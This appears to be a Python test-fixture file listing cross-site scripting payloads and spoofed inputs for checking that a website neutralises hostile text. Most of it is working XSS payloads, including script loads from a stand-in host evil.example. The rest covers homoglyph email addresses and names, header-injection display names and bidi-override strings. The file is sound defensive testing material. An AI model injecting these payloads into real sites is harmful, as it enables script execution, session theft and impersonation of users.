"""Hostile input: what someone would type into a field to make the site run their code.

Each payload carries the marker ``ffxss`` as a word of its own, so a test can tell that the text
reached the page (and so was there to be made inert) instead of passing because it vanished.
"""

MARKER = "ffxss"

PAYLOADS = [
    # Plain script tags, in several cases and shapes
    '<script>alert("ffxss")</script>',
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT> ffxss",
    '<script type="module">import("//evil.example/x.js")</script> ffxss',
    # Event handlers on all sorts of elements
    '<img src=x onerror=alert("ffxss")>',
    '<body onload=alert("ffxss")>',
    "<input autofocus onfocus=alert(1)> ffxss",
    "<details open ontoggle=alert(1)> ffxss",
    '<video><source onerror="alert(1)"></video> ffxss',
    # Breaking out of attributes, titles and text areas
    '" onmouseover="alert(1)" x=" ffxss',
    "' onmouseover='alert(1)' x=' ffxss",
    '"><img src=x onerror=alert(1)> ffxss',
    "</title><script>alert(1)</script> ffxss",
    "</textarea><script>alert(1)</script> ffxss",
    "</script><script>alert(1)</script> ffxss",
    # javascript:, data: and vbscript: URLs, disguised
    '<a href="javascript:alert(1)">ffxss</a>',
    '<a href="JaVaScRiPt:alert(1)">ffxss</a>',
    '<a href=" &#106;avascript:alert(1)">ffxss</a>',
    '<a href="java&#x09;script:alert(1)">ffxss</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">ffxss</a>',
    '<a href="vbscript:msgbox(1)">ffxss</a>',
    "javascript:alert(1) ffxss",
    '<form action="javascript:alert(1)"><button>ffxss</button></form>',
    '<iframe src="javascript:alert(1)"></iframe> ffxss',
    # SVG and MathML
    '<svg onload=alert("ffxss")>',
    "<svg><script>alert(1)</script></svg> ffxss",
    '<svg><a xlink:href="javascript:alert(1)"><text>ffxss</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style> ffxss",
    # Encoded: already-escaped and URL-encoded text must stay text
    "&lt;script&gt;alert(1)&lt;/script&gt; ffxss",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E ffxss",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e ffxss",
    # Broken and nested markup
    "<scr<script>ipt>alert(1)</scr</script>ipt> ffxss",
    "<img src=x onerror=alert(1)// ffxss",
    "<<script>script>alert(1)<</script>/script> ffxss",
    '<!--<img src="--><img src=x onerror=alert(1)//"> ffxss',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"> ffxss',
    "]]><script>alert(1)</script> ffxss",
    # Other ways to load or redirect
    '<object data="data:text/html,<script>alert(1)</script>"></object> ffxss',
    '<embed src="javascript:alert(1)"> ffxss',
    '<base href="https://evil.example/"> ffxss',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"> ffxss',
    '<link rel="stylesheet" href="https://evil.example/x.css"> ffxss',
    '<style>@import "https://evil.example/x.css";</style> ffxss',
    '<div style="background:url(javascript:alert(1))">ffxss</div>',
    # Template syntax and odd characters
    "{{ 7|add:7 }} {% now 'Y' %} ffxss",
    "\u202e<script>alert(1)</script> ffxss \u2028",
]


def chunks(limit: int = 200) -> list[str]:
    """The payloads joined into as few texts as fit a field of `limit` characters, in order.

    One hostile world per chunk keeps the tests quick, and payloads side by side test one
    more thing: a quote or tag one leaves open must not arm the next.
    """
    grouped: list[str] = []
    for payload in PAYLOADS:
        if grouped and len(grouped[-1]) + 1 + len(payload) <= limit:
            grouped[-1] += " " + payload
        else:
            grouped.append(payload)
    return grouped


# --- Look-alikes (issue 18): not markup, but text that pretends to be something it is not. ---

# The real account every look-alike address imitates.
LOOKALIKE_VICTIM = "emilia@example.com"

# Addresses that differ from LOOKALIKE_VICTIM (or from any plain address) only by a Unicode or
# syntax trick, each with a word the refusal must contain. Every surface that takes an address
# refuses every one of them, creates no account and sends no mail.
LOOKALIKE_ADDRESSES = {
    "zero-width space before the @": ("emilia\u200b@example.com", "invisible"),
    "zero-width space after the @ (IDNA drops it)": ("emilia@\u200bexample.com", "invisible"),
    "zero-width space at the end": ("emilia@example.com\u200b", "invisible"),
    "zero-width joiner": ("emi\u200dlia@example.com", "invisible"),
    "soft hyphen in the domain": ("emilia@exam\u00adple.com", "invisible"),
    "right-to-left override": ("emilia\u202e@example.com", "invisible"),
    "no-break space": ("emilia\u00a0@example.com", "spaces"),
    "line break": ("emilia@example.com\nBcc: x@example.com", "control"),
    "dotless i": ("em\u0131lia@example.com", "looks like “i”"),
    "Cyrillic a before the @": ("emili\u0430@example.com", "looks like “a”"),
    "Cyrillic a in the domain": ("emilia@ex\u0430mple.com", "mixes alphabets"),
    "Greek omicron in the domain": ("emilia@example.c\u03bfm", "mixes alphabets"),
    "Cyrillic domain drawn like Latin": ("emilia@\u0430\u0441\u0435.com", "look like Latin"),
    "full-width letter (IDNA maps it)": ("emilia@\uff45xample.com", "plain character"),
    "mathematical bold letter": ("emilia@\U0001d41example.com", "plain character"),
    "long s": ("\u017fam@example.com", "plain character"),
    "sharp s (IDNA 2003 sends it to ss)": ("emilia@stra\u00dfe.de", "strasse.de"),
    "punycode typed by hand": ("emilia@xn--mnchen-3ya.de", "münchen.de"),
    "localhost": ("emilia@localhost", "full domain name"),
    "IP literal": ("emilia@[127.0.0.1]", "IP address"),
    "bare IP address": ("emilia@127.0.0.1", "IP address"),
    "dot at the end": ("emilia@example.com.", "dot at the end"),
}

# Written differently, but exactly the victim's address: treated as it, never a second account.
SAME_AS_VICTIM = ["EMILIA@Example.COM", "  emilia@example.com  "]

# A staff member's name, and names a reader might take to pass for them.
EDITOR_NAME = "Morgan Reyes"
EDITOR_LOOKALIKES = {
    "Cyrillic o": "M\u043ergan Reyes",
    "Cyrillic e and y": "Morgan R\u0435\u0443es",
    "Greek capital Mu": "\u039corgan Reyes",
    "upper case, two spaces": "MORGAN  REYES",
    "digit zero for o": "M0rgan Reyes",
    "full-width letters": "\uff2d\uff4f\uff52\uff47\uff41\uff4e \uff32\uff45\uff59\uff45\uff53",
    "an accent": "Morgan Rey\u00e9s",
    "a combining dot": "Morgan Re\u0307yes",
    "rn for m": "rnorgan Reyes",
    "a dot for the space": "morgan.reyes",
}

# Display names that lie about their shape, each with a word the refusal must contain.
LYING_NAMES = {
    "CR LF": ("Ada\r\nLovelace", "one line"),
    "LF with a header": ("Ada\nBcc: x@example.com", "one line"),
    "tab": ("Ada\tLovelace", "one line"),
    "escape sequence": ("Ada\x1b[31m", "one line"),
    "next line (C1)": ("Ada\x85Lovelace", "one line"),
    "line separator": ("Ada\u2028Lovelace", "one line"),
    "paragraph separator": ("Ada\u2029Lovelace", "one line"),
    **{
        f"bidi U+{ord(char):04X}": (f"Ada {char}ecalevol", "direction")
        for char in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
    },
    "zero-width space only": ("\u200b", "invisible"),
    "zero-width characters only": ("\u200b\u200c\u200d\u2060", "invisible"),
    "byte order mark only": ("\ufeff", "invisible"),
    "Hangul filler only": ("\u3164", "invisible"),
    "soft hyphen only": ("\u00ad", "invisible"),
    "joiner only": ("\u200d", "invisible"),
    "combining marks only": ("\u0301\u0308", "visible"),
    "zero-width space inside": ("Ada\u200bLovelace", "invisible"),
}
